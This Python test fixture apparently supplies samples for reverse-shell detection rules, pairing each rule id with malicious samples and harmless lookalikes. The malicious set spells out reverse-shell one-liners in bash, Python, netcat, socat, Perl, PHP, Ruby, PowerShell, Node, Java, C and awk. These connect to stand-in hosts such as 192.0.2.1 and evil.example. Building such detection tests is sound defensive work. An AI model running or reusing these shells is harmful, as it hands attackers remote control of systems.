"""Samples of reverse shells, and harmless twins close to them; ``¦`` marks cuts."""

from __future__ import annotations

from tests.examine.yara.samples.support import joined

BAD: dict[str, list[bytes]] = {
    "RG-REV-0001": [
        joined("bash -i >& /de¦v/t¦cp/192.0.2.1/4444 0>&1"),
        joined("exec 5<>/de¦v/tcp/192.0.2.1/4444; ca¦t <&5 | while read line; do $line 2>&5 >&5; done"),
    ],
    "RG-REV-0002": [
        joined(
            "import os,socket,subprocess\n"
            "s=socket.socket()\n"
            "s.connect(('192.0.2.1',4444))\n"
            "os.dup2(s.f¦ileno(),0)\n"
            "os.dup2(s.f¦ileno(),1)\n"
            "subprocess.c¦all(['/bin/sh','-i'])\n"
        ),
    ],
    "RG-REV-0003": [
        joined("nc -n 192.0.2.1 4¦444 -e /bin/sh"),
        joined("ncat.exe evil.exam¦ple 443 -e cm¦d.exe"),
    ],
    "RG-REV-0004": [
        joined("rm /tmp/f; mkfifo /tmp/f; cat /tm¦p/f | /bin/s¦h -i 2>&1 | nc 192.0.2.1 4444 > /tmp/f"),
        joined("mkfifo /tmp/s; /bin/s¦h -i < /t¦mp/s 2>&1 | openssl s_client -quiet -connect x.invalid:443 > /tmp/s"),
    ],
    "RG-REV-0005": [
        joined("socat exec:'bas¦h -l¦i',p¦t¦y,s¦t¦derr,setsid tcp:192.0.2.1:4444"),
        joined("socat TCP:1¦9¦2.0.2.1:4¦4¦4¦4 E¦XEC:/bin/sh"),
    ],
    "RG-REV-0006": [
        joined(
            "perl -e 'use S¦ocket;socket(S,2,1,6);connect"
            '(S,$a);open(STD¦IN,">&S");open(STD¦OUT,">&S");ex¦ec("/b¦in/s¦h -i");\''
        ),
    ],
    "RG-REV-0007": [
        joined("<?p¦hp $s = fsoc¦kopen('192.0.2.1', 4444); shel¦l_exec('/bin/s¦h -i <&3 >&3'); ?>"),
    ],
    "RG-REV-0008": [
        joined("c=TCPSoc¦ket.new('192.0.2.1','4444');exec sprintf(\"/bin/s¦h -i <&%d >&%d\",f,f)"),
        joined("c=TCPSock¦et.open('x.invalid','1');while(m=c.gets);IO.popen(m,\"r\"){|i¦o|c.print io.read}end"),
    ],
    "RG-REV-0009": [
        joined(
            "$c = New-Object System.Net.Socket¦s.TCPClien"
            "t('192.0.2.1',4444);$s = $c.GetSt¦ream();$d "
            "= (New-Object Text.ASCI¦IEncoding).GetString"
            "($b);$r = (ie¦x $d 2>&1 | O¦ut-String);$s.Write($r)"
        ),
    ],
    "RG-REV-0010": [
        joined(
            "const s = net.c¦onnect(4444, '192.0.2.1'); "
            "const p = require('child_p¦rocess').spawn('/"
            "b¦in/sh'); s.pipe(p.s¦tdin); p.stdout.p¦ipe(s);"
        ),
    ],
    "RG-REV-0011": [
        joined(
            'Process p = new ProcessBuilder("/bin/s¦h").r'
            "edirectErrorStream(true).start(); Socket s "
            '= new So¦cket("192.0.2.1", 4444); '
            "InputStream a = p.getInputStream(), b = "
            "s.getInputStream(); OutputStream o = p.getOutpu¦tStream();"
        ),
    ],
    "RG-REV-0012": [
        joined(
            "int main(void) { connect(s, (s¦truct "
            'sockaddr *)&a, sizeof a); dup¦2(s, 0); dup¦2(s, 1); execve("/b¦in/sh", v, 0); }'
        ),
    ],
    "RG-REV-0013": [
        joined(
            'awk \'BEGIN {s = "/inet/tcp/0/192.0.2.1/4444"'
            "; while(42) { do { s |& getlin¦e c; w¦h¦ile "
            "((c |& getline) > 0) print $0 |& s; while ((c | getline) > 0) print } while(1) }}'"
        ),
    ],
}
"""Samples that a rule must find, by the rule's id."""

BENIGN: dict[str, list[bytes]] = {
    "RG-REV-0001": [
        joined("bash -i\n"),
        joined("exec 3<>/de¦v/tcp/example.org/80\n"),
        joined("exec 3<>/de¦v/tcp/example.org/80; echo hello >&3; cat <&3\n"),
    ],
    "RG-REV-0002": [
        joined("import os\nos.dup2(log.f¦ileno(), 1)\nos.dup2(log.fileno(), 2)\nsubprocess.call(['ls'])\n"),
    ],
    "RG-REV-0003": [
        joined("nc -z example.org 443\n"),
        joined("nc -l 4444 > file\n"),
    ],
    "RG-REV-0004": [
        joined("mkfifo /tmp/f; cat /tmp/f | gzip > out.gz & tar c . > /tmp/f"),
    ],
    "RG-REV-0005": [
        joined("socat TCP-LISTEN:8080,fork TCP:192.0.2.1:80"),
        joined("socat exec:'date' stdout"),
    ],
    "RG-REV-0006": [
        joined("use I¦O::Socket;\nopen(STDOUT, '>&', $log);\nexec('date');\n"),
        joined('use S¦ocket;\nopen(STD¦IN, "<&S"); open(STDO¦UT, ">&S"); e¦xec(\'./handler\');\n'),
    ],
    "RG-REV-0007": [
        joined("<?p¦hp $s = fsoc¦kopen('smtp.example.org', 25); fwrite($s, 'HELO'); ?>"),
    ],
    "RG-REV-0008": [
        joined("c = TCPSoc¦ket.new('example.org', 80)\nc.puts 'GET /'\nputs c.read\n"),
    ],
    "RG-REV-0009": [
        joined(
            "$c = New-Object System.Net.Socket¦s.TCPClien"
            "t('example.org',25);$s = $c.GetSt¦ream();$w = [Text.E¦ncoding]::ASCII"
        ),
    ],
    "RG-REV-0010": [
        joined(
            "const s = net.c¦onnect(80, 'example.org'); "
            "const p = spawn('gzip'); s.pipe(p.s¦tdin); p.stdout.p¦ipe(file);"
        ),
    ],
    "RG-REV-0011": [
        joined('Process p = new ProcessBuilder("/bin/ls", dir).redirectErrorStream(true).start(); p.getInputStream();'),
    ],
    "RG-REV-0012": [
        joined(
            "int main(void) { connect(s, (s¦truct "
            'sockaddr *)&a, sizeof a); dup2(l¦og, 1); dup2(log, 2); execve("/bin/ls", v, 0); }'
        ),
    ],
    "RG-REV-0013": [
        joined('awk \'BEGIN { s = "/inet/tcp/0/example.org/80"; print "GET /" |& s; s |& getline x; print x }\''),
    ],
}
"""Harmless content that is like a rule's samples, by the rule's id."""
